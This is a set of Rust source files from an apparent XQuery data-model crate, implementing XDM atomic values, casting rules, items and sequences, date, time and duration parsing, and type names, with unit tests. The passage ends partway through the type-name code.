pub use compare::{compare_atomics, general_compare, value_compare, CompOp};
pub use datetime::{Date, DateTime, Duration, Time};
pub use ebv::effective_boolean_value;
pub use error::{XdmError, XdmResult};
pub use item::{atomize, atomize_sequence, Item, Sequence};
pub use stream::EbvProbe;
pub use types::{ItemType, Occurrence, SequenceType, TypeName};
