//! Atomic values and casting.

use std::fmt;
use std::rc::Rc;

use xqib_dom::QName;

use crate::datetime::{Date, DateTime, Duration, Time};
use crate::error::{XdmError, XdmResult};
use crate::types::TypeName;

/// An atomic value of the XDM.
#[derive(Debug, Clone, PartialEq)]
pub enum Atomic {
    String(Rc<str>),
    /// `xs:untypedAtomic` — what untyped web-page content atomizes to.
    Untyped(Rc<str>),
    Boolean(bool),
    Integer(i64),
    Decimal(f64),
    Double(f64),
    QName(QName),
    AnyUri(Rc<str>),
    Date(Date),
    Time(Time),
    DateTime(DateTime),
    Duration(Duration),
}

impl Atomic {
    pub fn str(s: impl AsRef<str>) -> Self {
        Atomic::String(Rc::from(s.as_ref()))
    }
    pub fn untyped(s: impl AsRef<str>) -> Self {
        Atomic::Untyped(Rc::from(s.as_ref()))
    }

    /// The dynamic type name.
    pub fn type_name(&self) -> TypeName {
        match self {
            Atomic::String(_) => TypeName::String,
            Atomic::Untyped(_) => TypeName::UntypedAtomic,
            Atomic::Boolean(_) => TypeName::Boolean,
            Atomic::Integer(_) => TypeName::Integer,
            Atomic::Decimal(_) => TypeName::Decimal,
            Atomic::Double(_) => TypeName::Double,
            Atomic::QName(_) => TypeName::QName,
            Atomic::AnyUri(_) => TypeName::AnyUri,
            Atomic::Date(_) => TypeName::Date,
            Atomic::Time(_) => TypeName::Time,
            Atomic::DateTime(_) => TypeName::DateTime,
            Atomic::Duration(_) => TypeName::Duration,
        }
    }

    /// True for the four numeric types.
    pub fn is_numeric(&self) -> bool {
        matches!(
            self,
            Atomic::Integer(_) | Atomic::Decimal(_) | Atomic::Double(_)
        )
    }

    /// The canonical lexical (string) form, i.e. `xs:string` cast.
    pub fn string_value(&self) -> String {
        match self {
            Atomic::String(s) | Atomic::Untyped(s) | Atomic::AnyUri(s) => s.to_string(),
            Atomic::Boolean(b) => b.to_string(),
            Atomic::Integer(i) => i.to_string(),
            Atomic::Decimal(d) => format_decimal(*d),
            Atomic::Double(d) => format_double(*d),
            Atomic::QName(q) => q.lexical(),
            Atomic::Date(d) => d.to_string(),
            Atomic::Time(t) => t.to_string(),
            Atomic::DateTime(dt) => dt.to_string(),
            Atomic::Duration(d) => d.to_string(),
        }
    }

    /// Numeric view as `f64` (errors on non-numeric, including bad untyped).
    pub fn as_double(&self) -> XdmResult<f64> {
        match self {
            Atomic::Integer(i) => Ok(*i as f64),
            Atomic::Decimal(d) | Atomic::Double(d) => Ok(*d),
            Atomic::Untyped(s) => parse_double(s),
            Atomic::Boolean(b) => Ok(if *b { 1.0 } else { 0.0 }),
            other => Err(XdmError::type_error(format!(
                "cannot treat {} as a number",
                other.type_name()
            ))),
        }
    }

    /// Casts to a target atomic type (`cast as`, constructor functions).
    pub fn cast_to(&self, target: TypeName) -> XdmResult<Atomic> {
        use TypeName::*;
        let s = self.string_value();
        match target {
            String => Ok(Atomic::str(s)),
            UntypedAtomic => Ok(Atomic::untyped(s)),
            AnyUri => Ok(Atomic::AnyUri(Rc::from(s.as_str()))),
            Boolean => match self {
                Atomic::Boolean(b) => Ok(Atomic::Boolean(*b)),
                Atomic::Integer(i) => Ok(Atomic::Boolean(*i != 0)),
                Atomic::Decimal(d) | Atomic::Double(d) => {
                    Ok(Atomic::Boolean(*d != 0.0 && !d.is_nan()))
                }
                _ => match s.trim() {
                    "true" | "1" => Ok(Atomic::Boolean(true)),
                    "false" | "0" => Ok(Atomic::Boolean(false)),
                    _ => Err(XdmError::invalid_cast(format!(
                        "cannot cast `{s}` to xs:boolean"
                    ))),
                },
            },
            Integer => match self {
                Atomic::Integer(i) => Ok(Atomic::Integer(*i)),
                Atomic::Decimal(d) | Atomic::Double(d) => {
                    if d.is_nan() || d.is_infinite() {
                        Err(XdmError::new(
                            "FOCA0002",
                            format!("cannot cast {d} to xs:integer"),
                        ))
                    } else {
                        Ok(Atomic::Integer(d.trunc() as i64))
                    }
                }
                Atomic::Boolean(b) => Ok(Atomic::Integer(if *b { 1 } else { 0 })),
                _ => s.trim().parse::<i64>().map(Atomic::Integer).map_err(|_| {
                    XdmError::invalid_cast(format!("cannot cast `{s}` to xs:integer"))
                }),
            },
            Decimal => match self {
                Atomic::Integer(i) => Ok(Atomic::Decimal(*i as f64)),
                Atomic::Decimal(d) => Ok(Atomic::Decimal(*d)),
                Atomic::Double(d) => {
                    if d.is_nan() || d.is_infinite() {
                        Err(XdmError::new(
                            "FOCA0002",
                            "cannot cast NaN/INF to xs:decimal",
                        ))
                    } else {
                        Ok(Atomic::Decimal(*d))
                    }
                }
                Atomic::Boolean(b) => Ok(Atomic::Decimal(if *b { 1.0 } else { 0.0 })),
                _ => {
                    let t = s.trim();
                    if t.eq_ignore_ascii_case("nan")
                        || t.to_ascii_uppercase().contains("INF")
                        || t.contains(['e', 'E'])
                    {
                        Err(XdmError::invalid_cast(format!(
                            "cannot cast `{s}` to xs:decimal"
                        )))
                    } else {
                        t.parse::<f64>().map(Atomic::Decimal).map_err(|_| {
                            XdmError::invalid_cast(format!("cannot cast `{s}` to xs:decimal"))
                        })
                    }
                }
            },
            Double => match self {
                Atomic::Integer(i) => Ok(Atomic::Double(*i as f64)),
                Atomic::Decimal(d) | Atomic::Double(d) => Ok(Atomic::Double(*d)),
                Atomic::Boolean(b) => Ok(Atomic::Double(if *b { 1.0 } else { 0.0 })),
                _ => parse_double(&s).map(Atomic::Double),
            },
            Date => match self {
                Atomic::Date(d) => Ok(Atomic::Date(*d)),
                Atomic::DateTime(dt) => Ok(Atomic::Date(dt.date)),
                _ => crate::datetime::Date::parse(&s).map(Atomic::Date),
            },
            Time => match self {
                Atomic::Time(t) => Ok(Atomic::Time(*t)),
                Atomic::DateTime(dt) => Ok(Atomic::Time(dt.time)),
                _ => crate::datetime::Time::parse(&s).map(Atomic::Time),
            },
            DateTime => match self {
                Atomic::DateTime(dt) => Ok(Atomic::DateTime(*dt)),
                Atomic::Date(d) => Ok(Atomic::DateTime(crate::datetime::DateTime::new(
                    *d,
                    crate::datetime::Time {
                        hour: 0,
                        minute: 0,
                        second: 0,
                        millis: 0,
                    },
                ))),
                _ => crate::datetime::DateTime::parse(&s).map(Atomic::DateTime),
            },
            Duration => match self {
                Atomic::Duration(d) => Ok(Atomic::Duration(*d)),
                _ => crate::datetime::Duration::parse(&s).map(Atomic::Duration),
            },
            QName => match self {
                Atomic::QName(q) => Ok(Atomic::QName(q.clone())),
                _ => Err(XdmError::type_error(
                    "casting to xs:QName requires static resolution",
                )),
            },
            AnyAtomic => Ok(self.clone()),
        }
    }
}

/// XPath `xs:double` lexical parsing (accepts `INF`, `-INF`, `NaN`).
pub fn parse_double(s: &str) -> XdmResult<f64> {
    let t = s.trim();
    match t {
        "INF" | "+INF" => Ok(f64::INFINITY),
        "-INF" => Ok(f64::NEG_INFINITY),
        "NaN" => Ok(f64::NAN),
        _ => t
            .parse::<f64>()
            .map_err(|_| XdmError::invalid_cast(format!("cannot cast `{s}` to xs:double"))),
    }
}

/// XPath canonical formatting of `xs:double`.
pub fn format_double(d: f64) -> String {
    if d.is_nan() {
        "NaN".to_string()
    } else if d.is_infinite() {
        if d > 0.0 {
            "INF".to_string()
        } else {
            "-INF".to_string()
        }
    } else if d == d.trunc() && d.abs() < 1e15 {
        format!("{}", d as i64)
    } else {
        format!("{d}")
    }
}

/// Canonical formatting of `xs:decimal` (no exponent).
pub fn format_decimal(d: f64) -> String {
    if d == d.trunc() && d.abs() < 1e15 {
        format!("{}", d as i64)
    } else {
        format!("{d}")
    }
}

impl fmt::Display for Atomic {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str(&self.string_value())
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn string_values() {
        assert_eq!(Atomic::Integer(42).string_value(), "42");
        assert_eq!(Atomic::Boolean(true).string_value(), "true");
        assert_eq!(Atomic::Double(1.5).string_value(), "1.5");
        assert_eq!(Atomic::Double(3.0).string_value(), "3");
        assert_eq!(Atomic::Double(f64::NAN).string_value(), "NaN");
        assert_eq!(Atomic::Double(f64::INFINITY).string_value(), "INF");
        assert_eq!(Atomic::str("x").string_value(), "x");
    }

    #[test]
    fn cast_string_to_numbers() {
        let s = Atomic::str(" 12 ");
        assert!(matches!(
            s.cast_to(TypeName::Integer).unwrap(),
            Atomic::Integer(12)
        ));
        let s = Atomic::str("1.5e2");
        assert!(matches!(s.cast_to(TypeName::Double).unwrap(), Atomic::Double(d) if d == 150.0));
        assert!(
            s.cast_to(TypeName::Decimal).is_err(),
            "decimal rejects exponents"
        );
        assert!(Atomic::str("abc").cast_to(TypeName::Integer).is_err());
    }

    #[test]
    fn cast_to_boolean() {
        assert!(matches!(
            Atomic::str("true").cast_to(TypeName::Boolean).unwrap(),
            Atomic::Boolean(true)
        ));
        assert!(matches!(
            Atomic::str("0").cast_to(TypeName::Boolean).unwrap(),
            Atomic::Boolean(false)
        ));
        assert!(Atomic::str("yes").cast_to(TypeName::Boolean).is_err());
        assert!(matches!(
            Atomic::Integer(7).cast_to(TypeName::Boolean).unwrap(),
            Atomic::Boolean(true)
        ));
        assert!(matches!(
            Atomic::Double(f64::NAN).cast_to(TypeName::Boolean).unwrap(),
            Atomic::Boolean(false)
        ));
    }

    #[test]
    fn cast_double_to_integer_truncates() {
        assert!(matches!(
            Atomic::Double(3.9).cast_to(TypeName::Integer).unwrap(),
            Atomic::Integer(3)
        ));
        assert!(matches!(
            Atomic::Double(-3.9).cast_to(TypeName::Integer).unwrap(),
            Atomic::Integer(-3)
        ));
        assert!(Atomic::Double(f64::NAN).cast_to(TypeName::Integer).is_err());
    }

    #[test]
    fn untyped_promotes_to_double() {
        assert_eq!(Atomic::untyped("2.5").as_double().unwrap(), 2.5);
        assert!(Atomic::untyped("two").as_double().is_err());
    }

    #[test]
    fn special_doubles() {
        assert_eq!(parse_double("INF").unwrap(), f64::INFINITY);
        assert_eq!(parse_double("-INF").unwrap(), f64::NEG_INFINITY);
        assert!(parse_double("NaN").unwrap().is_nan());
    }

    #[test]
    fn date_casts() {
        let d = Atomic::str("2009-04-20").cast_to(TypeName::Date).unwrap();
        assert_eq!(d.string_value(), "2009-04-20");
        let dt = Atomic::str("2009-04-20T08:00:00")
            .cast_to(TypeName::DateTime)
            .unwrap();
        let back = dt.cast_to(TypeName::Date).unwrap();
        assert_eq!(back.string_value(), "2009-04-20");
        let t = dt.cast_to(TypeName::Time).unwrap();
        assert_eq!(t.string_value(), "08:00:00");
    }

    #[test]
    fn type_names() {
        assert_eq!(Atomic::Integer(1).type_name(), TypeName::Integer);
        assert_eq!(Atomic::untyped("x").type_name(), TypeName::UntypedAtomic);
        assert!(Atomic::Decimal(1.0).is_numeric());
        assert!(!Atomic::str("1").is_numeric());
    }
}
