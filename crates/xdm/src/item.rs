//! Items and sequences.
//!
//! An XDM value is a flat sequence of items; an item is a node or an atomic
//! value. Sequences never nest — the engine flattens on construction.

use xqib_dom::{NodeRef, Store};

use crate::atomic::Atomic;
use crate::error::XdmResult;

/// A single XDM item.
#[derive(Debug, Clone)]
pub enum Item {
    Node(NodeRef),
    Atomic(Atomic),
}

impl Item {
    pub fn integer(i: i64) -> Self {
        Item::Atomic(Atomic::Integer(i))
    }
    pub fn double(d: f64) -> Self {
        Item::Atomic(Atomic::Double(d))
    }
    pub fn string(s: impl AsRef<str>) -> Self {
        Item::Atomic(Atomic::str(s))
    }
    pub fn boolean(b: bool) -> Self {
        Item::Atomic(Atomic::Boolean(b))
    }

    pub fn is_node(&self) -> bool {
        matches!(self, Item::Node(_))
    }

    pub fn as_node(&self) -> Option<NodeRef> {
        match self {
            Item::Node(n) => Some(*n),
            Item::Atomic(_) => None,
        }
    }

    pub fn as_atomic(&self) -> Option<&Atomic> {
        match self {
            Item::Atomic(a) => Some(a),
            Item::Node(_) => None,
        }
    }

    /// The string value of the item (`fn:string`).
    pub fn string_value(&self, store: &Store) -> String {
        match self {
            Item::Node(n) => store.string_value(*n),
            Item::Atomic(a) => a.string_value(),
        }
    }
}

/// An XDM sequence. Always flat.
pub type Sequence = Vec<Item>;

/// Atomizes one item: nodes become `xs:untypedAtomic` of their string value
/// (untyped data model), except attributes/text which also yield untyped;
/// atomics pass through.
pub fn atomize(store: &Store, item: &Item) -> Atomic {
    match item {
        Item::Node(n) => Atomic::untyped(store.string_value(*n)),
        Item::Atomic(a) => a.clone(),
    }
}

/// Atomizes a whole sequence (`fn:data`).
pub fn atomize_sequence(store: &Store, seq: &[Item]) -> XdmResult<Vec<Atomic>> {
    Ok(seq.iter().map(|i| atomize(store, i)).collect())
}

/// Builds the singleton sequence, the most common case.
pub fn singleton(item: Item) -> Sequence {
    vec![item]
}

#[cfg(test)]
mod tests {
    use super::*;
    use xqib_dom::QName;

    #[test]
    fn node_atomizes_to_untyped() {
        let mut s = Store::new();
        let d = s.new_document(None);
        let doc = s.doc_mut(d);
        let e = doc.create_element(QName::local("price"));
        doc.append_child(doc.root(), e).unwrap();
        let t = doc.create_text("1500");
        doc.append_child(e, t).unwrap();
        let item = Item::Node(NodeRef::new(d, e));
        let a = atomize(&s, &item);
        assert!(matches!(&a, Atomic::Untyped(v) if &**v == "1500"));
        // untyped atomics still work as numbers downstream
        assert_eq!(a.as_double().unwrap(), 1500.0);
    }

    #[test]
    fn helpers() {
        let i = Item::integer(3);
        assert!(!i.is_node());
        assert!(i.as_node().is_none());
        assert!(i.as_atomic().is_some());
        let s = Store::new();
        assert_eq!(Item::string("a").string_value(&s), "a");
        assert_eq!(Item::boolean(true).string_value(&s), "true");
    }

    #[test]
    fn atomize_sequence_passthrough() {
        let s = Store::new();
        let seq = vec![Item::integer(1), Item::string("x")];
        let atoms = atomize_sequence(&s, &seq).unwrap();
        assert_eq!(atoms.len(), 2);
        assert_eq!(atoms[0].string_value(), "1");
        assert_eq!(atoms[1].string_value(), "x");
    }
}
