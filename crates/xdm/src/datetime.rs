//! Date/time values.
//!
//! XQuery's "powerful function and operator library (e.g., for dates and
//! times)" is one of the paper's §1 arguments for XQuery in the browser, and
//! the BOM exposes values like `lastModified` (§4.2.1). We implement the
//! component model the engine and examples use: dates, times, dateTimes and
//! the two duration flavours, with parsing, formatting, ordering and
//! difference arithmetic. Timezones are out of scope (browser-local model).

use crate::error::{XdmError, XdmResult};
use std::cmp::Ordering;
use std::fmt;

/// `xs:date` — year, month, day.
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord, Hash)]
pub struct Date {
    pub year: i32,
    pub month: u8,
    pub day: u8,
}

/// `xs:time` — hour, minute, second, millisecond.
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord, Hash)]
pub struct Time {
    pub hour: u8,
    pub minute: u8,
    pub second: u8,
    pub millis: u16,
}

/// `xs:dateTime`.
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord, Hash)]
pub struct DateTime {
    pub date: Date,
    pub time: Time,
}

/// A duration: either year-month (stored as months) or day-time (stored as
/// milliseconds). The W3C splits `xs:duration` into these two comparable
/// subtypes; we store whichever component set is non-zero.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash)]
pub struct Duration {
    pub months: i64,
    pub millis: i64,
}

const DAYS_IN_MONTH: [u8; 12] = [31, 28, 31, 30, 31, 30, 31, 31, 30, 31, 30, 31];

fn is_leap(year: i32) -> bool {
    (year % 4 == 0 && year % 100 != 0) || year % 400 == 0
}

fn days_in_month(year: i32, month: u8) -> u8 {
    if month == 2 && is_leap(year) {
        29
    } else {
        DAYS_IN_MONTH[(month - 1) as usize]
    }
}

impl Date {
    pub fn new(year: i32, month: u8, day: u8) -> XdmResult<Self> {
        if !(1..=12).contains(&month) {
            return Err(XdmError::invalid_cast(format!("invalid month {month}")));
        }
        if day == 0 || day > days_in_month(year, month) {
            return Err(XdmError::invalid_cast(format!("invalid day {day}")));
        }
        Ok(Date { year, month, day })
    }

    /// Parses `YYYY-MM-DD`.
    pub fn parse(s: &str) -> XdmResult<Self> {
        let s = s.trim();
        let parts: Vec<&str> = s.splitn(3, '-').collect();
        // handle negative years by re-splitting
        let (y, m, d) = if let Some(rest) = s.strip_prefix('-') {
            let p: Vec<&str> = rest.splitn(3, '-').collect();
            if p.len() != 3 {
                return Err(XdmError::invalid_cast(format!("bad xs:date `{s}`")));
            }
            (format!("-{}", p[0]), p[1].to_string(), p[2].to_string())
        } else {
            if parts.len() != 3 {
                return Err(XdmError::invalid_cast(format!("bad xs:date `{s}`")));
            }
            (
                parts[0].to_string(),
                parts[1].to_string(),
                parts[2].to_string(),
            )
        };
        let year: i32 = y
            .parse()
            .map_err(|_| XdmError::invalid_cast(format!("bad year in `{s}`")))?;
        let month: u8 = m
            .parse()
            .map_err(|_| XdmError::invalid_cast(format!("bad month in `{s}`")))?;
        let day: u8 = d
            .parse()
            .map_err(|_| XdmError::invalid_cast(format!("bad day in `{s}`")))?;
        Date::new(year, month, day)
    }

    /// Days since 1970-01-01 (proleptic Gregorian), may be negative.
    pub fn days_since_epoch(&self) -> i64 {
        let mut days: i64 = 0;
        if self.year >= 1970 {
            for y in 1970..self.year {
                days += if is_leap(y) { 366 } else { 365 };
            }
        } else {
            for y in self.year..1970 {
                days -= if is_leap(y) { 366 } else { 365 };
            }
        }
        for m in 1..self.month {
            days += days_in_month(self.year, m) as i64;
        }
        days + (self.day as i64 - 1)
    }

    /// Adds whole days.
    pub fn plus_days(&self, delta: i64) -> Date {
        let mut target = self.days_since_epoch() + delta;
        let mut year = 1970i32;
        loop {
            let len = if is_leap(year) { 366 } else { 365 };
            if target >= len as i64 {
                target -= len as i64;
                year += 1;
            } else if target < 0 {
                year -= 1;
                target += if is_leap(year) { 366 } else { 365 };
            } else {
                break;
            }
        }
        let mut month = 1u8;
        while target >= days_in_month(year, month) as i64 {
            target -= days_in_month(year, month) as i64;
            month += 1;
        }
        Date {
            year,
            month,
            day: (target + 1) as u8,
        }
    }
}

impl fmt::Display for Date {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(f, "{:04}-{:02}-{:02}", self.year, self.month, self.day)
    }
}

impl Time {
    pub fn new(hour: u8, minute: u8, second: u8, millis: u16) -> XdmResult<Self> {
        if hour > 23 || minute > 59 || second > 59 || millis > 999 {
            return Err(XdmError::invalid_cast(format!(
                "invalid xs:time {hour}:{minute}:{second}.{millis}"
            )));
        }
        Ok(Time {
            hour,
            minute,
            second,
            millis,
        })
    }

    /// Parses `HH:MM:SS(.mmm)?`.
    pub fn parse(s: &str) -> XdmResult<Self> {
        let s = s.trim();
        let parts: Vec<&str> = s.splitn(3, ':').collect();
        if parts.len() != 3 {
            return Err(XdmError::invalid_cast(format!("bad xs:time `{s}`")));
        }
        let hour: u8 = parts[0]
            .parse()
            .map_err(|_| XdmError::invalid_cast(format!("bad hour in `{s}`")))?;
        let minute: u8 = parts[1]
            .parse()
            .map_err(|_| XdmError::invalid_cast(format!("bad minute in `{s}`")))?;
        let (sec_str, ms) = match parts[2].split_once('.') {
            Some((sec, frac)) => {
                let frac3: String = format!("{frac:0<3}").chars().take(3).collect();
                (sec.to_string(), frac3.parse::<u16>().unwrap_or(0))
            }
            None => (parts[2].to_string(), 0),
        };
        let second: u8 = sec_str
            .parse()
            .map_err(|_| XdmError::invalid_cast(format!("bad second in `{s}`")))?;
        Time::new(hour, minute, second, ms)
    }

    pub fn millis_of_day(&self) -> i64 {
        ((self.hour as i64 * 60 + self.minute as i64) * 60 + self.second as i64) * 1000
            + self.millis as i64
    }
}

impl fmt::Display for Time {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        if self.millis == 0 {
            write!(f, "{:02}:{:02}:{:02}", self.hour, self.minute, self.second)
        } else {
            write!(
                f,
                "{:02}:{:02}:{:02}.{:03}",
                self.hour, self.minute, self.second, self.millis
            )
        }
    }
}

impl DateTime {
    pub fn new(date: Date, time: Time) -> Self {
        DateTime { date, time }
    }

    /// Parses `YYYY-MM-DDTHH:MM:SS(.mmm)?` (optional trailing `Z` ignored).
    pub fn parse(s: &str) -> XdmResult<Self> {
        let s = s.trim().trim_end_matches('Z');
        let (d, t) = s
            .split_once('T')
            .ok_or_else(|| XdmError::invalid_cast(format!("bad xs:dateTime `{s}`")))?;
        Ok(DateTime {
            date: Date::parse(d)?,
            time: Time::parse(t)?,
        })
    }

    /// Milliseconds since the epoch.
    pub fn epoch_millis(&self) -> i64 {
        self.date.days_since_epoch() * 86_400_000 + self.time.millis_of_day()
    }

    /// Builds a dateTime from epoch milliseconds (the virtual browser clock).
    pub fn from_epoch_millis(ms: i64) -> Self {
        let days = ms.div_euclid(86_400_000);
        let rem = ms.rem_euclid(86_400_000);
        let date = Date {
            year: 1970,
            month: 1,
            day: 1,
        }
        .plus_days(days);
        let hour = (rem / 3_600_000) as u8;
        let minute = ((rem / 60_000) % 60) as u8;
        let second = ((rem / 1000) % 60) as u8;
        let millis = (rem % 1000) as u16;
        DateTime {
            date,
            time: Time {
                hour,
                minute,
                second,
                millis,
            },
        }
    }
}

impl fmt::Display for DateTime {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(f, "{}T{}", self.date, self.time)
    }
}

impl Duration {
    pub fn from_months(months: i64) -> Self {
        Duration { months, millis: 0 }
    }
    pub fn from_millis(millis: i64) -> Self {
        Duration { months: 0, millis }
    }

    /// Parses the ISO-8601 subset `(-)PnYnMnDTnHnMnS`.
    pub fn parse(s: &str) -> XdmResult<Self> {
        let s = s.trim();
        let (neg, body) = match s.strip_prefix('-') {
            Some(rest) => (true, rest),
            None => (false, s),
        };
        let body = body
            .strip_prefix('P')
            .ok_or_else(|| XdmError::invalid_cast(format!("bad duration `{s}`")))?;
        let (date_part, time_part) = match body.split_once('T') {
            Some((d, t)) => (d, Some(t)),
            None => (body, None),
        };
        let mut months: i64 = 0;
        let mut millis: i64 = 0;
        let mut num = String::new();
        for c in date_part.chars() {
            if c.is_ascii_digit() {
                num.push(c);
            } else {
                let n: i64 = num
                    .parse()
                    .map_err(|_| XdmError::invalid_cast(format!("bad duration `{s}`")))?;
                num.clear();
                match c {
                    'Y' => months += n * 12,
                    'M' => months += n,
                    'D' => millis += n * 86_400_000,
                    'W' => millis += n * 7 * 86_400_000,
                    _ => {
                        return Err(XdmError::invalid_cast(format!(
                            "bad duration designator `{c}` in `{s}`"
                        )))
                    }
                }
            }
        }
        if let Some(tp) = time_part {
            let mut num = String::new();
            for c in tp.chars() {
                if c.is_ascii_digit() || c == '.' {
                    num.push(c);
                } else {
                    let n: f64 = num
                        .parse()
                        .map_err(|_| XdmError::invalid_cast(format!("bad duration `{s}`")))?;
                    num.clear();
                    match c {
                        'H' => millis += (n * 3_600_000.0) as i64,
                        'M' => millis += (n * 60_000.0) as i64,
                        'S' => millis += (n * 1000.0) as i64,
                        _ => {
                            return Err(XdmError::invalid_cast(format!(
                                "bad duration designator `{c}` in `{s}`"
                            )))
                        }
                    }
                }
            }
        }
        if neg {
            months = -months;
            millis = -millis;
        }
        Ok(Duration { months, millis })
    }

    /// Comparable only when both values use the same component flavour.
    pub fn try_cmp(&self, other: &Duration) -> Option<Ordering> {
        if self.months == 0 && other.months == 0 {
            Some(self.millis.cmp(&other.millis))
        } else if self.millis == 0 && other.millis == 0 {
            Some(self.months.cmp(&other.months))
        } else {
            None
        }
    }
}

impl fmt::Display for Duration {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        if self.months == 0 && self.millis == 0 {
            return write!(f, "PT0S");
        }
        let neg = self.months < 0 || self.millis < 0;
        let months = self.months.abs();
        let millis = self.millis.abs();
        let mut out = String::new();
        if neg {
            out.push('-');
        }
        out.push('P');
        let years = months / 12;
        let rem_months = months % 12;
        if years > 0 {
            out.push_str(&format!("{years}Y"));
        }
        if rem_months > 0 {
            out.push_str(&format!("{rem_months}M"));
        }
        let days = millis / 86_400_000;
        if days > 0 {
            out.push_str(&format!("{days}D"));
        }
        let rem = millis % 86_400_000;
        if rem > 0 {
            out.push('T');
            let h = rem / 3_600_000;
            let m = (rem / 60_000) % 60;
            let s = (rem % 60_000) as f64 / 1000.0;
            if h > 0 {
                out.push_str(&format!("{h}H"));
            }
            if m > 0 {
                out.push_str(&format!("{m}M"));
            }
            if s > 0.0 {
                if s.fract() == 0.0 {
                    out.push_str(&format!("{}S", s as i64));
                } else {
                    out.push_str(&format!("{s}S"));
                }
            }
        }
        f.write_str(&out)
    }
}

/// `dateTime - dateTime` difference as a day-time duration.
pub fn datetime_diff(a: &DateTime, b: &DateTime) -> Duration {
    Duration::from_millis(a.epoch_millis() - b.epoch_millis())
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn date_parse_and_format() {
        let d = Date::parse("2009-04-20").unwrap();
        assert_eq!(
            d,
            Date {
                year: 2009,
                month: 4,
                day: 20
            }
        );
        assert_eq!(d.to_string(), "2009-04-20");
        assert!(Date::parse("2009-13-01").is_err());
        assert!(Date::parse("2009-02-30").is_err());
        assert!(Date::parse("garbage").is_err());
    }

    #[test]
    fn leap_years() {
        assert!(Date::parse("2008-02-29").is_ok());
        assert!(Date::parse("2009-02-29").is_err());
        assert!(Date::parse("2000-02-29").is_ok());
        assert!(Date::parse("1900-02-29").is_err());
    }

    #[test]
    fn time_parse_with_fraction() {
        let t = Time::parse("09:30:05.25").unwrap();
        assert_eq!(t.millis, 250);
        assert_eq!(t.to_string(), "09:30:05.250");
        assert_eq!(Time::parse("23:59:59").unwrap().to_string(), "23:59:59");
        assert!(Time::parse("24:00:00").is_err());
    }

    #[test]
    fn datetime_roundtrip_epoch() {
        let dt = DateTime::parse("2009-04-20T12:34:56.789").unwrap();
        let ms = dt.epoch_millis();
        assert_eq!(DateTime::from_epoch_millis(ms), dt);
        assert_eq!(
            DateTime::from_epoch_millis(0).to_string(),
            "1970-01-01T00:00:00"
        );
    }

    #[test]
    fn date_ordering() {
        assert!(Date::parse("2008-12-31").unwrap() < Date::parse("2009-01-01").unwrap());
        assert!(
            DateTime::parse("2009-04-20T10:00:00").unwrap()
                < DateTime::parse("2009-04-20T10:00:01").unwrap()
        );
    }

    #[test]
    fn plus_days_crosses_boundaries() {
        let d = Date::parse("2008-02-28").unwrap();
        assert_eq!(d.plus_days(1).to_string(), "2008-02-29");
        assert_eq!(d.plus_days(2).to_string(), "2008-03-01");
        let d = Date::parse("1970-01-01").unwrap();
        assert_eq!(d.plus_days(-1).to_string(), "1969-12-31");
    }

    #[test]
    fn duration_parse_and_format() {
        let d = Duration::parse("P1Y2M").unwrap();
        assert_eq!(d.months, 14);
        assert_eq!(d.to_string(), "P1Y2M");
        let d = Duration::parse("P2DT3H4M5S").unwrap();
        assert_eq!(d.millis, ((2 * 24 + 3) * 3600 + 4 * 60 + 5) * 1000);
        let d2 = Duration::parse(&d.to_string()).unwrap();
        assert_eq!(d, d2);
        let neg = Duration::parse("-PT30S").unwrap();
        assert_eq!(neg.millis, -30_000);
    }

    #[test]
    fn duration_comparison_rules() {
        let ym1 = Duration::from_months(12);
        let ym2 = Duration::from_months(13);
        let dt1 = Duration::from_millis(1000);
        assert_eq!(ym1.try_cmp(&ym2), Some(Ordering::Less));
        assert_eq!(ym1.try_cmp(&dt1), None, "mixed flavours are incomparable");
    }

    #[test]
    fn datetime_difference() {
        let a = DateTime::parse("2009-04-24T00:00:00").unwrap();
        let b = DateTime::parse("2009-04-20T00:00:00").unwrap();
        assert_eq!(datetime_diff(&a, &b), Duration::from_millis(4 * 86_400_000));
    }
}
