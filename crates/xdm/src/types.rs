//! Sequence types: `item()`, node kinds, atomic types and occurrence
//! indicators — the machinery behind `instance of`, `treat as`, `castable`
//! and typed function signatures.

use std::fmt;

use xqib_dom::{NodeKind, QName, Store};

use crate::item::Item;

/// Built-in atomic type names (the `xs:` types the engine knows).
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash)]
pub enum TypeName {
    AnyAtomic,
    String,
    UntypedAtomic,
    Boolean,
    Integer,
    Decimal,
    Double,
    QName,
    AnyUri,
    Date,
    Time,
    DateTime,
    Duration,
}

impl TypeName {
    /// Resolves an `xs:` local name.
    pub fn from_local(local: &str) -> Option<TypeName> {
        Some(match local {
            "anyAtomicType" => TypeName::AnyAtomic,
            "string" => TypeName::String,
            "untypedAtomic" => TypeName::UntypedAtomic,
            "boolean" => TypeName::Boolean,
            "integer" | "int" | "long" | "short" | "byte" | "nonNegativeInteger"
            | "positiveInteger" | "negativeInteger" | "nonPositiveInteger" | "unsignedInt"
            | "unsignedLong" | "unsignedShort" | "unsignedByte" => TypeName::Integer,
            "decimal" => TypeName::Decimal,
            "double" | "float" => TypeName::Double,
            "QName" => TypeName::QName,
            "anyURI" => TypeName::AnyUri,
            "date" => TypeName::Date,
            "time" => TypeName::Time,
            "dateTime" => TypeName::DateTime,
            "duration" | "yearMonthDuration" | "dayTimeDuration" => TypeName::Duration,
            _ => return None,
        })
    }

    pub fn local_name(&self) -> &'static str {
        match self {
            TypeName::AnyAtomic => "anyAtomicType",
            TypeName::String => "string",
            TypeName::UntypedAtomic => "untypedAtomic",
            TypeName::Boolean => "boolean",
            TypeName::Integer => "integer",
            TypeName::Decimal => "decimal",
            TypeName::Double => "double",
            TypeName::QName => "QName",
            TypeName::AnyUri => "anyURI",
            TypeName::Date => "date",
            TypeName::Time => "time",
            TypeName::DateTime => "dateTime",
            TypeName::Duration => "duration",
        }
    }

